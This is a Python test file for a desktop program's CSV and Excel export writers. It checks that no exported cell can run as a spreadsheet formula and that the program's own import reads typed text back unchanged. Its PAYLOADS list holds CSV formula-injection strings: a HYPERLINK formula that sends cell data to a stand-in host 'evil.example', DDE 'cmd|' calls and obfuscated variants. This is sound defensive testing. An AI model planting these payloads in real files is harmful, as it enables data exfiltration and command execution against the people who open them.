"""No cell of a list that goes out is a formula; our own import reads what somebody typed."""

import csv
import io
import re

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from desktop.core.currencies import currency
from desktop.exchange.tables.clean import clean_text
from desktop.exchange.tables.reader import open_table
from desktop.exports.catalogue import LISTS
from desktop.exports.layout import Layout
from desktop.exports.listing import DATE, MOMENT, MONEY, NUMBER, TEXT, WORD
from desktop.exports.writers import CSV, GB18030, XLSX, About, writer

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
    "|calc",
    "'=1+1",
)
pytestmark = pytest.mark.usefixtures("office")
STORED = {NUMBER: 7, MONEY: -12345, DATE: "2026-11-23", MOMENT: "2026-11-23T04:00:00.000Z"}
ABOUT = About("Clear Creek", "List", (("Reason", "=1+1"),), (("Sum", "1.00"),))
_BEFORE = re.compile(r"[\s\u00a0\u200b-\u200f\u2060\ufeff]*")
_RUNS = re.compile(r"[=+\-@|＝＋－＠｜]")
_NUMBER = re.compile(r"[+-]?[\d.,]+")


def row_of(listing, text):
    """A row in which the text stands wherever somebody may have typed it."""
    return [text if one.kind in (TEXT, WORD) else STORED.get(one.kind, "A-00001") for one in listing.columns]


def could_run(cell):
    bare = cell[_BEFORE.match(cell).end() :]
    return bool(_RUNS.match(bare)) and not _NUMBER.fullmatch(cell)


def write(kind, path, listing, *texts, personal=True):
    layout = Layout(listing, currency("CNY"), personal)
    with path.open("wb") as file:
        made = writer(kind, file, layout, path.parent)
        made.take([row_of(listing, text) for text in texts])
        made.finish(ABOUT)
        made.drop()
    return layout


def typed_places(layout):
    return [place for place, one in enumerate(layout.columns) if one.kind in (TEXT, WORD)]


def read_csv(path, encoding):
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline="")))


@pytest.mark.parametrize(("kind", "encoding"), [(CSV, "utf-8-sig"), (GB18030, "gb18030")])
def test_no_payload_runs_from_a_text_and_the_import_reads_it_as_it_was_typed(tmp_path, kind, encoding):
    for listing in LISTS:
        path = tmp_path / "list.csv"
        layout = write(kind, path, listing, *PAYLOADS)
        headings, *rows = read_csv(path, encoding)
        assert headings == layout.headings
        assert not [cell for row in rows for cell in row if could_run(cell)], listing.name
        for row, payload in zip(rows, PAYLOADS, strict=True):
            for place in typed_places(layout):
                assert clean_text(row[place]) == clean_text("'" * payload.startswith("'") + payload)


def test_no_payload_runs_from_a_spreadsheet(tmp_path):
    for listing in LISTS:
        path = tmp_path / "list.xlsx"
        layout = write(XLSX, path, listing, *PAYLOADS)
        book = openpyxl.load_workbook(path)
        sheet = book.worksheets[0]
        assert [cell.value for cell in sheet[1]] == layout.headings
        cells = [cell for page in book for row in page.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}, listing.name  # f would be a formula
        for line, payload in enumerate(PAYLOADS, 2):
            for place in typed_places(layout):
                assert unescape(sheet.cell(line, place + 1).value) == payload


anything = st.one_of(
    st.text(max_size=40),
    st.builds(lambda head, tail: head + tail, st.sampled_from(PAYLOADS), st.text(max_size=9)),
)


@settings(max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(anything, min_size=1, max_size=25), listing=st.sampled_from(LISTS))
def test_whatever_is_typed_is_read_back_and_cannot_run(tmp_path, texts, listing):
    for kind, encoding in ((CSV, "utf-8-sig"), (GB18030, "gb18030")):
        path = tmp_path / "list.csv"
        layout = write(kind, path, listing, *texts)
        _headings, *rows = read_csv(path, encoding)
        assert not [cell for row in rows for cell in row if could_run(cell)]
        for row, text in zip(rows, texts, strict=True):
            for place in typed_places(layout):
                told = said(layout, place, text)
                assert row[place] in (told, f"'{told}")
    path = tmp_path / "list.xlsx"
    layout = write(XLSX, path, listing, *texts)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    for line, text in enumerate(texts, 2):
        for place in typed_places(layout):
            cell = sheet.cell(line, place + 1)
            assert cell.data_type in "sn"
            assert told_apart_from_markup(unescape(cell.value or "")) == in_a_workbook(
                said(layout, place, text)
            )


def said(layout, place, text):
    """A code that the program knows is said in words."""
    says = layout.columns[place].says
    return says(text) if says and text else text


def in_a_workbook(text):
    return re.sub("[\ufffe\uffff]", "\ufffd", text)


def told_apart_from_markup(text):
    return text[:-1] if text.startswith("<r>") and text.endswith("</r>\u200b") else text


def test_text_that_looks_like_the_library_s_own_markup_stays_text(tmp_path):
    listing = LISTS[0]
    write(XLSX, tmp_path / "list.xlsx", listing, "<r><f>1+1</f></r>", "<b>")
    sheet = openpyxl.load_workbook(tmp_path / "list.xlsx").worksheets[0]
    assert sheet["F2"].value == "<r><f>1+1</f></r>\u200b"
    assert sheet["F3"].value == "<b>"


def test_the_program_s_own_codes_and_numbers_are_left_as_they_are(tmp_path):
    """Amounts below nothing, hashes and stamps stay what programs can read."""
    journal = next(listing for listing in LISTS if listing.name == "journal")
    row = [
        "12",
        "2026-11-23T04:00:00.000Z",
        "2026-11-23",
        None,
        "a.b",
        None,
        "ok",
        '{"a":-1}',
        "0" * 64,
        "-1",
    ]
    layout = Layout(journal, currency("CNY"), personal=False)
    with (tmp_path / "list.csv").open("wb") as file:
        made = writer(CSV, file, layout, tmp_path)
        made.take([row])
        made.finish(ABOUT)
        made.drop()
    assert read_csv(tmp_path / "list.csv", "utf-8-sig")[1] == [text or "" for text in row]


def test_our_own_import_reads_a_list_with_payloads_as_it_was_typed(tmp_path):
    accounts = next(listing for listing in LISTS if listing.name == "accounts")
    for kind, name in ((CSV, "list.csv"), (XLSX, "list.xlsx")):
        write(kind, tmp_path / name, accounts, *PAYLOADS)
        table = open_table(tmp_path / name)
        assert table.header == [column.heading for column in accounts.columns]
        names = [clean_text(row.cells[1]) for row in table.rows()]
        before = "'" if kind == CSV else ""  # of a typed apostrophe a workbook's import cannot know
        assert names == [clean_text(before * typed.startswith("'") + typed) for typed in PAYLOADS]
